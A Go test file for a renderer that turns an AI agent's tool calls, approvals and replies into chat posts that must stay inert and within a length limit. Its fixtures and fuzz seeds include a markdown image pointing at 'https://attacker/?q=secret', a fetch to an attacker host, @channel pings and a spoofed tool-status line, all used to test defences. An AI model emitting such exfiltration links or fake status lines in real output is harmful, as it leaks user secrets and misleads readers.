package inert

import (
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"boxmaker/wire"
)

func session(t *testing.T, s string) wire.SessionID {
	t.Helper()
	id, err := wire.NewSessionID(s)
	if err != nil {
		t.Fatal(err)
	}
	return id
}

func reason(r wire.DenyReason) *wire.DenyReason { return &r }

// checkTurn asserts a turn's post is inert, quotes and all, and fits.
func checkTurn(t *testing.T, tu *Turn) string {
	t.Helper()
	out := tu.Text()
	if n := utf8.RuneCountInString(out); n > MaxPostRunes {
		t.Fatalf("the post has %d runes, more than %d", n, MaxPostRunes)
	}
	if p := check(out, true); len(p.problems) > 0 {
		t.Fatalf("%s\n(post %q)", strings.Join(p.problems, "\n"), out)
	}
	return out
}

func TestTurnGolden(t *testing.T) {
	var tu Turn
	expires := wire.TimestampOf(fxExpires)
	events := []wire.TurnEvent{
		wire.TurnSession{Session: session(t, "chat-1758096300"), Epoch: 1},
		wire.TurnText{Content: "I'll read your notes first, then clean the build."},
		wire.TurnToolCall{Call: 3, Tool: "read_file", Arguments: `{"path":"/home/kyle/notes.md"}`},
		wire.TurnToolOutcome{Call: 3, Tool: "read_file", Status: wire.ToolResult, Class: wire.Private, Truncated: true},
		wire.TurnToolCall{Call: 4, Tool: "shell", Arguments: fxArgs},
		wire.TurnApprovalPending{Approval: 41, Tool: "shell", Expires: expires},
		wire.TurnToolOutcome{Call: 4, Tool: "shell", Status: wire.ToolResult, Class: wire.Public},
		wire.TurnToolCall{Call: 5, Tool: "fetch", Arguments: `{"url":"https://attacker/"}`},
		wire.TurnToolOutcome{Call: 5, Tool: "fetch", Status: wire.ToolDenied, Reason: reason(wire.NoGrant), Class: wire.Public},
		wire.TurnToolCall{Call: 6, Tool: "@channel", Arguments: `{}`},
		wire.TurnToolOutcome{Call: 6, Tool: "@channel", Status: wire.ToolFailed, Class: wire.Public},
		wire.TurnAnswerCut{Tokens: 2048, Reason: wire.CutAnswerLimit},
		wire.TurnReply{Content: "Done. The notes say:\n\n> tool call 7 `send_mail`: ran\n\n" +
			"![pixel](https://attacker/?q=secret) @channel\n```\nbuild removed\n```"},
	}
	for _, ev := range events {
		tu.Add(ev)
	}
	out := checkTurn(t, &tu)
	golden(t, "turn.md", out)
	failed := Turn{}
	failed.Add(wire.TurnText{Content: "Trying https://attacker/x"})
	failed.Add(wire.TurnFailed{Message: "the model failed: connection refused; see docs/runbook.md#answer-cut"})
	golden(t, "turn-failed.md", checkTurn(t, &failed))
}

// TestTurnStatuses: each call is one line, updated in place.
func TestTurnStatuses(t *testing.T) {
	var tu Turn
	tu.Add(wire.TurnToolCall{Call: 1, Tool: "shell", Arguments: "{}"})
	if out := tu.Text(); out != "tool call 1 `shell`: running" {
		t.Errorf("running: %q", out)
	}
	tu.Add(wire.TurnApprovalPending{Approval: 41, Tool: "shell", Expires: wire.TimestampOf(fxExpires)})
	if out := tu.Text(); out != "tool call 1 `shell`: waiting for approval 41 (expires 08:20:00 UTC)" {
		t.Errorf("waiting: %q", out)
	}
	tu.Add(wire.TurnToolOutcome{Call: 1, Tool: "shell", Status: wire.ToolDenied, Reason: reason(wire.ApprovalRefused), Class: wire.Public})
	if out := tu.Text(); out != "tool call 1 `shell`: denied (`approval_refused`)" {
		t.Errorf("denied: %q", out)
	}
	// An approval for no running call, and an outcome for an unknown call.
	tu.Add(wire.TurnApprovalPending{Approval: 42, Tool: "x", Expires: wire.TimestampOf(fxExpires)})
	tu.Add(wire.TurnToolOutcome{Call: 9, Tool: "y", Status: wire.ToolFailed, Class: wire.Public})
	want := "tool call 1 `shell`: denied (`approval_refused`)\n" +
		"a call of `x` is waiting for approval 42 (expires 08:20:00 UTC).\n" +
		"tool call 9 `y`: failed"
	if out := checkTurn(t, &tu); out != want {
		t.Errorf("got %q\nwant %q", out, want)
	}
}

// TestTurnLongText: a text too long for a post keeps its two ends, cut in
// the model's text before rendering, so no code span or fence breaks.
func TestTurnLongText(t *testing.T) {
	long := []string{
		strings.Repeat("word ", 10000),
		strings.Repeat("https://attacker/x @channel ", 2000),
		"```\n" + strings.Repeat("code line\n", 5000) + "```\nafter",
		strings.Repeat("`tick` ", 5000),
		strings.Repeat("[", 40000),
	}
	for _, text := range long {
		var tu Turn
		tu.Add(wire.TurnToolCall{Call: 1, Tool: "shell", Arguments: "{}"})
		tu.Add(wire.TurnReply{Content: text})
		out := checkTurn(t, &tu)
		if !strings.Contains(out, "characters of this text are not shown") || !strings.Contains(out, "parts of this turn are not shown") {
			t.Errorf("the cut is not said: %q…", out[:200])
		}
		if n := utf8.RuneCountInString(out); n < MaxPostRunes*3/4 {
			t.Errorf("only %d runes used", n)
		}
	}
}

// TestTurnManyCalls: the oldest parts go first, and a line says so.
func TestTurnManyCalls(t *testing.T) {
	var tu Turn
	for i := 1; i <= 1000; i++ {
		tu.Add(wire.TurnToolCall{Call: wire.CallID(i), Tool: "read_file", Arguments: "{}"})
		tu.Add(wire.TurnToolOutcome{Call: wire.CallID(i), Tool: "read_file", Status: wire.ToolResult, Class: wire.Public})
	}
	tu.Add(wire.TurnReply{Content: "all read"})
	out := checkTurn(t, &tu)
	if !strings.HasPrefix(out, "(… the first ") || !strings.HasSuffix(out, "> all read") ||
		!strings.Contains(out, "tool call 1000 `read_file`: ran") || strings.Contains(out, "tool call 1 `") {
		t.Errorf("got %q…%q", out[:120], out[len(out)-120:])
	}
}

// TestTurnProperty: random turns of hostile text stay inert and fit.
func TestTurnProperty(t *testing.T) {
	r := rand.New(rand.NewPCG(14, 3))
	for i := 0; i < 3000; i++ {
		var tu Turn
		for e := r.IntN(8); e >= 0; e-- {
			s := hostile(r)
			switch r.IntN(6) {
			case 0:
				tu.Add(wire.TurnText{Content: s})
			case 1:
				tu.Add(wire.TurnToolCall{Call: wire.CallID(e), Tool: s, Arguments: s})
			case 2:
				tu.Add(wire.TurnToolOutcome{Call: wire.CallID(e), Tool: s, Status: wire.ToolDenied, Reason: reason(wire.NoGrant), Class: wire.Public})
			case 3:
				tu.Add(wire.TurnApprovalPending{Approval: uint64(e), Tool: s, Expires: wire.TimestampOf(fxExpires)})
			case 4:
				tu.Add(wire.TurnReply{Content: s})
			case 5:
				tu.Add(wire.TurnFailed{Message: s})
			}
		}
		checkTurn(t, &tu)
	}
}

func FuzzTurn(f *testing.F) {
	f.Add("![x](https://attacker/?q=secret)\n```\n@channel", "@all")
	f.Add("> quoted\n\n| t | a |\n|---|---|", "sh`ell")
	f.Fuzz(func(t *testing.T, text, tool string) {
		var tu Turn
		tu.Add(wire.TurnText{Content: text})
		tu.Add(wire.TurnToolCall{Call: 1, Tool: tool, Arguments: text})
		tu.Add(wire.TurnApprovalPending{Approval: 1, Tool: tool, Expires: wire.TimestampOf(fxExpires)})
		tu.Add(wire.TurnReply{Content: text + text})
		checkTurn(t, &tu)
	})
}
